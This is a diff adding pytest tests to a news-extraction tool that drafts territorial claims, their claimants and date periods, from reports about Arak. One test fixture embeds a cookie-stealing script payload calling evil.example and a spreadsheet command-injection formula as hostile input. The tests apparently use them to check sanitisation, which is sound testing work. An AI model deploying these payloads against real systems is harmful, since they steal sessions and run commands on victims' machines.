@@ -174,3 +174,74 @@ def test_a_role_word_that_fits_two_sides_stays_unresolved(demo):
 def test_coordinated_verbs_share_the_clause_date(demo, text, date):
     row = _row(text, demo, "arak")
     assert row["date"] == date, row["note"]
+
+
+# ------------------------------------------------------- 5. a claim's claimant and period
+QUOTED = (
+    "\"We have liberated Arak and the Al-Hayl gas field <script>fetch('https://evil.example/'"
+    "+document.cookie)</script> from the terrorists,\" the army's General Command said in a "
+    "statement, adding that troops had secured \"=cmd|' /C calc'!A0\" more than 1,200 square "
+    "kilometres."
+)
+
+
+def _claim(text, theatre):
+    [row] = extract(DATELINE + text, theatre).claim_drafts.to_dict("records")
+    return row
+
+
+@pytest.mark.parametrize(
+    ("text", "claimant"),
+    [
+        (QUOTED, "the army's General Command (GOV)"),
+        (
+            "'We took it,' the Observatory said, adding that the army held 300 sq km.",
+            "the Observatory",
+        ),
+        ("The army said it had secured more than 1,200 square kilometres.", "The army (GOV)"),
+    ],
+)
+def test_a_claimant_is_the_speaker_never_quote_text(demo, text, claimant):
+    row = _claim(text, demo)
+    assert row["claimant"] == claimant
+
+
+@pytest.mark.parametrize(
+    ("text", "start", "end", "note"),
+    [
+        # a campaign total with no start: left empty for the reviewer, and said
+        (QUOTED, "", "2017-06-03", "start left empty"),
+        (
+            "Government forces have taken more than 1,200 square kilometres since the "
+            "offensive began on May 7, the army said.",
+            "2017-05-07",
+            "2017-06-03",
+            "start from 'since the offensive began on May 7'",
+        ),
+        (
+            "Government forces took 1,200 sq km in the past three weeks, the Observatory said.",
+            "2017-05-13",
+            "2017-06-03",
+            "start from 'in the past three weeks'",
+        ),
+        (
+            "Since May 7, the army has retaken 2,000 sq km, <b>residents</b> said.",
+            "2017-05-07",
+            "2017-06-03",
+            "start from 'Since May 7'",
+        ),
+        # the figure of one change the clause dates: that day
+        (
+            "Government forces captured Arak on Friday, an area of 50 sq km, state media said.",
+            "2017-06-02",
+            "2017-06-02",
+            "period from the change drafted in the sentence (arak)",
+        ),
+    ],
+)
+def test_a_claim_period_is_never_the_publication_day_alone(demo, text, start, end, note):
+    row = _claim(text, demo)
+    assert (row["start"], row["end"]) == (start, end), row["note"]
+    assert note in row["note"]
+    if not start:  # merge-drafts refuses a claim without a start: the note says so
+        assert "fill in start" in row["note"] and "merge-drafts" in row["note"]
